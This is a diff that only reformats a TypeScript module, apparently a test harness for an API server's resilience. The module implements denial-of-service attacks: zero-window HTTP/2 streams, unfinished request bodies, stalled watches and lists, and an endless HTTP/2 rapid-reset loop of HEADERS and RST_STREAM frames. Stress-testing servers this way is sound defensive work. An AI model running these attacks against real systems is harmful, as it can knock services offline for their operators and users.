@@ -2,7 +2,13 @@ import type { TLSSocket } from 'node:tls';
 import { frame, openRaw, writeOn } from '../../hostile/raw-connection.ts';
 import { headersFrame, http1Head, type AskedFor } from './request-head.ts';
 
-export const attackNames = ['window-0 streams', 'unfinished bodies', 'stalled watches', 'stalled lists', 'rapid resets'] as const;
+export const attackNames = [
+  'window-0 streams',
+  'unfinished bodies',
+  'stalled watches',
+  'stalled lists',
+  'rapid resets',
+] as const;
 export type AttackName = (typeof attackNames)[number];
 
 export interface Attack {
@@ -25,11 +31,16 @@ const windowSetting = 4;
 export async function startAttack(attack: Attack): Promise<void> {
   const asked = (method: 'GET' | 'POST', path: string): AskedFor => ({ method, path, token: attack.token });
   switch (attack.name) {
-    case 'window-0 streams': return holdStreams(attack, 0, asked('GET', `${configMaps}/small`), true);
-    case 'stalled lists': return holdAnswers(attack, asked('GET', `${configMaps}?resourceVersion=0`));
-    case 'stalled watches': return holdAnswers(attack, asked('GET', `${configMaps}?watch=true`));
-    case 'unfinished bodies': return holdBodies(attack, asked('POST', configMaps));
-    case 'rapid resets': return void resetWithoutEnd(attack, asked('GET', configMaps));
+    case 'window-0 streams':
+      return holdStreams(attack, 0, asked('GET', `${configMaps}/small`), true);
+    case 'stalled lists':
+      return holdAnswers(attack, asked('GET', `${configMaps}?resourceVersion=0`));
+    case 'stalled watches':
+      return holdAnswers(attack, asked('GET', `${configMaps}?watch=true`));
+    case 'unfinished bodies':
+      return holdBodies(attack, asked('POST', configMaps));
+    case 'rapid resets':
+      return void resetWithoutEnd(attack, asked('GET', configMaps));
   }
 }
 
@@ -67,9 +78,10 @@ async function resetWithoutEnd(attack: Attack, asked: AskedFor): Promise<void> {
   const cancel = Buffer.from([0, 0, 0, 8]);
   for (;;) {
     const socket = await openHttp2(attack.url, 65_535);
-    for (let stream = 1; !socket.destroyed; ) {
+    for (let stream = 1; !socket.destroyed;) {
       const pairs: Buffer[] = [];
-      for (const last = stream + 2 * streamsEach; stream < last; stream += 2) pairs.push(headersFrame(stream, asked, true), frame(3, 0, stream, cancel));
+      for (const last = stream + 2 * streamsEach; stream < last; stream += 2)
+        pairs.push(headersFrame(stream, asked, true), frame(3, 0, stream, cancel));
       if (!(await writeOn(socket, Buffer.concat(pairs)))) break;
       await new Promise(setImmediate);
     }
